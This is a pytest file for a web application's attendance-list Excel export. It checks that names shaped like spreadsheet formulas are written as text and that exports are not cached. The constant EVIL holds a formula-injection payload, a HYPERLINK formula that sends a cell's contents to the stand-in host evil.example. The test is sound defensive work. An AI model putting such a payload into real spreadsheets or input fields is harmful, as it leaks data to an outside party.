"""The attendance list in Excel: names are text, never formulas (issue 13, defect 6); never cached (defect 8)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from core.extensions import db

from .conftest import past

EVIL = '=HYPERLINK("http://evil.example/?d="&B5,"klik")'


def test_a_child_named_like_a_formula_is_a_text_cell(client, login, world, make_programme, make_session,
                                                     enrol_person, mark):
    p = make_programme(world["petra"], name="+Groep @woensdag")
    s = make_session(p, past(3))
    child = world["fam"].children()[0]
    child.given_name, child.family_name = EVIL, "-2+3"
    db.session.commit()
    e = enrol_person(p, child, world["fam"])
    mark(s, e, "present")
    login(client, "worker")
    resp = client.get(f"/groepen/{p.id}/aanwezigheidslijst.xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data))["Aanwezigheden"]
    title = ws["A1"]
    assert title.value == "Aanwezigheidslijst +Groep @woensdag" and title.data_type == "s" and title.font.bold
    name = ws["A5"]
    assert name.value == f"{EVIL} -2+3" and name.data_type == "s"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert ws["C5"].value == "A" and ws["G5"].value == 100 and ws["G5"].data_type == "n"
    assert ws.freeze_panes == "C5" and ws.column_dimensions["A"].width >= 28


def test_the_attendance_list_and_calendar_are_never_cached(client, login, world, make_programme, make_session):
    p = make_programme(world["petra"], leaders=[world["users"]["worker"]])
    make_session(p, past(3))
    login(client, "worker")
    for url in (f"/groepen/{p.id}/aanwezigheidslijst.xlsx", f"/groepen/{p.id}/agenda.ics"):
        resp = client.get(url)
        assert resp.status_code == 200, url
        assert resp.headers["Cache-Control"] == "no-store", url
        assert resp.headers["Content-Disposition"].startswith("attachment;"), url
